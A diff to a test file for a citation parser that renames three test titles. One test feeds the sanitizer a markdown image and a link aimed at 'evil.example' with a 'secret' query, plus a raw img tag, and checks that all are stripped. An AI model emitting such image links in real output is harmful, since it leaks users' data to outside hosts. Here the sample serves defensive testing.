@@ -9,21 +9,21 @@ test("citations are read before and after the full stop", () => {
   ]);
 });
 
-test("several numbers in one bracket, list marks and repeated numbers are understood", () => {
+test("several numbers in one bracket, list marks and repeated numbers are parsed", () => {
   expect(readClaims("- **First** point [1, 2] [2].\n- Second point [4]")).toEqual([
     { text: "First point.", passages: [1, 2] },
     { text: "Second point", passages: [4] },
   ]);
 });
 
-test("[S26] images, links and tags do not survive", () => {
+test("[S26] images, links and tags are removed", () => {
   const [claim] = readClaims(
     "See ![x](https://evil.example/?q=secret) the <img src=x> [manual](https://evil.example) now [1].",
   );
   expect(claim?.text).toBe("See the manual now.");
 });
 
-test("a claim is supported when its words and all its figures stand in the passage", () => {
+test("a claim is supported when the passage contains its terms and all its figures", () => {
   const passage = "The greatest pressure on the outlet side is 9 bar and the tank holds 1,200 litres.";
   expect(supports(passage, "The outlet pressure is 9 bar at most.")).toBe(true);
   expect(supports(passage, "The tank holds 1200 litres.")).toBe(true);
